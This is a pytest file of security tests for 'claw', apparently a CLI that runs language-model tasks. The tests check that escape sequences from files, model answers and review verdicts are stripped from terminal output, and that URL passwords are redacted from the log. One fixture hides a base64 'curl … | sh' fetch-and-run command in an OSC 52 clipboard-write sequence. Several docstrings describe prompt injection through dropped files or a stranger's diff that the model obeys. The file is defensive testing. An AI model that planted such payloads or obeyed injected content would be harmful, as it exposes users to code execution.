"""Attack review of issue 16's surface, part b: what claw prints on a terminal (escape
sequences from outside content) and the command as typed (a URL's password)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fake_openai import FakeOpenAI, text
from helpers import claw, make_project

NOW = "2026-11-22T23:05:00+01:00"


@pytest.fixture
def server() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as srv:
        yield srv


def env(server: FakeOpenAI) -> dict[str, str]:
    return {"OPENAI_BASE_URL": server.base_url, "CLAW_NOW": NOW}


# --- what claw show / claw log / claw run / claw why print on a terminal -------------------------

# OSC 52 writes the person's clipboard (xterm, iTerm2, kitty, tmux, Windows Terminal); OSC 0
# sets the window title; CSI 2J clears the screen. None of it is text a person wrote.
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vMTI3LjAuMC4xOjkvcyB8IHNo\x07"
CLEAR = "\x1b[2J\x1b[H"

DROP = """
    version: 1
    model: local-qwen
    tasks:
      triage:
        prompt: "Triage {{ item }}."
        foreach: "inbox/*.txt"
        output: "out/{{ item.stem }}.md"
"""


def test_claw_show_prints_no_terminal_escape_from_a_transcript(
    tmp_path: Path, server: FakeOpenAI
) -> None:
    """A dropped file's bytes reach a tool result, and the obedient model's answer repeats
    them: both are in the transcript, and `claw show last` wrote them raw to the person's
    terminal (OSC 52 sets their clipboard to a command, CSI 2J hides what was above)."""
    root = make_project(
        tmp_path / "p",
        """
        version: 1
        model: local-qwen
        tasks:
          summary:
            prompt: Summarise notes/a.md.
            output: out.md
        """,
        {"notes/a.md": f"hello {OSC52}{CLEAR} world\n"},
    )
    server.enqueue(
        text('<tool_call>{"name": "read", "arguments": {"path": "notes/a.md"}}</tool_call>'),
        text(f"Done.{OSC52}{CLEAR}"),
    )
    r = claw(root, "run", "summary", env=env(server))
    assert r.exit_code == 0, r.stderr
    shown = claw(root, "show", "last")
    assert shown.exit_code == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout, repr(shown.stdout[-400:])


def test_claw_log_prints_no_terminal_escape_from_a_dropped_name(
    tmp_path: Path, server: FakeOpenAI
) -> None:
    """A dropped file's name is the job's item: `claw log` printed it raw."""
    root = make_project(tmp_path / "p", DROP, {f"inbox/x{CLEAR}\x1b]0;owned\x07.txt": "hi\n"})
    server.enqueue(text("ok"))
    r = claw(root, "run", "triage", env=env(server))
    assert r.exit_code == 0, r.stderr
    log = claw(root, "log")
    assert log.exit_code == 0, log.stderr
    assert "\x1b" not in log.stdout and "\x07" not in log.stdout, repr(log.stdout)


def test_a_verdict_prints_no_terminal_escape_while_claw_runs(
    tmp_path: Path, server: FakeOpenAI
) -> None:
    """The verdict of a check (a pre-commit review of a stranger's staged diff, whose author
    the model obeys) is printed as the run ends -- summary and findings -- and again from the
    ledger on every commit while nothing changes. Its escape sequences reached the terminal
    of the person committing, raw."""
    root = make_project(
        tmp_path / "p",
        """
        version: 1
        model: local-qwen
        tasks:
          review:
            prompt: Review.
            check: true
        """,
    )
    verdict = {
        "ok": False,
        "summary": f"bad{OSC52}",
        "findings": [f"app.py:1: {CLEAR}x", {"file": f"a{OSC52}", "line": 1, "message": "m"}],
    }
    server.enqueue(text(json.dumps(verdict)))
    r = claw(root, "run", "review", env=env(server))
    assert r.exit_code == 1, r.stderr
    assert "bad" in r.stderr
    assert "\x1b" not in r.stderr and "\x07" not in r.stderr, repr(r.stderr)


def test_a_dropped_name_prints_no_terminal_escape_while_claw_runs(
    tmp_path: Path, server: FakeOpenAI
) -> None:
    root = make_project(tmp_path / "p", DROP, {"inbox/x\x1b]0;owned\x07.txt": "hi\n"})
    server.enqueue(text("ok"))
    r = claw(root, "run", "triage", env=env(server))
    assert r.exit_code == 0, r.stderr
    assert "\x1b" not in r.stderr and "\x07" not in r.stderr, repr(r.stderr)


@pytest.mark.parametrize(
    "url",
    [
        "https://:s3cr3t-passw0rd@127.0.0.1/x",  # a password with no user name (redis, basic)
        "https://user:s3cr3t@passw0rd@127.0.0.1/x",  # an '@' in the password, unencoded
    ],
    ids=["no-user", "at-in-password"],
)
def test_a_url_password_on_the_command_line_is_not_recorded(
    tmp_path: Path, server: FakeOpenAI, url: str
) -> None:
    """The command as typed is kept in the ledger and shown by claw log (and --json) and the
    report; a URL's password is to be redacted there. The URL rule needs a user name before
    the colon and stops the password at its first '@'."""
    root = make_project(
        tmp_path / "p",
        """
        version: 1
        model: local-qwen
        tasks:
          summary:
            prompt: "Summarise {{ files | join(', ') }}."
            output: out.md
        """,
    )
    server.enqueue(text("done"))
    r = claw(root, "run", "summary", "--files", url, env=env(server))
    assert r.exit_code == 0, r.stderr
    log = claw(root, "log", "--json")
    assert "s3cr3t" not in log.stdout, log.stdout
    assert "passw0rd" not in log.stdout, log.stdout


def test_claw_why_prints_no_terminal_escape_from_a_remembered_verdict(
    tmp_path: Path, server: FakeOpenAI
) -> None:
    """The remembered verdict's summary, as `claw why` (and the next commit's hook) says it."""
    root = make_project(
        tmp_path / "p",
        """
        version: 1
        model: local-qwen
        tasks:
          review:
            prompt: Review.
            check: true
        """,
    )
    server.enqueue(text(json.dumps({"ok": False, "summary": f"bad{OSC52}", "findings": []})))
    assert claw(root, "run", "review", env=env(server)).exit_code == 1
    why = claw(root, "why", "review")
    assert "bad" in why.stdout + why.stderr
    assert "\x1b" not in why.stdout + why.stderr, repr(why.stdout + why.stderr)
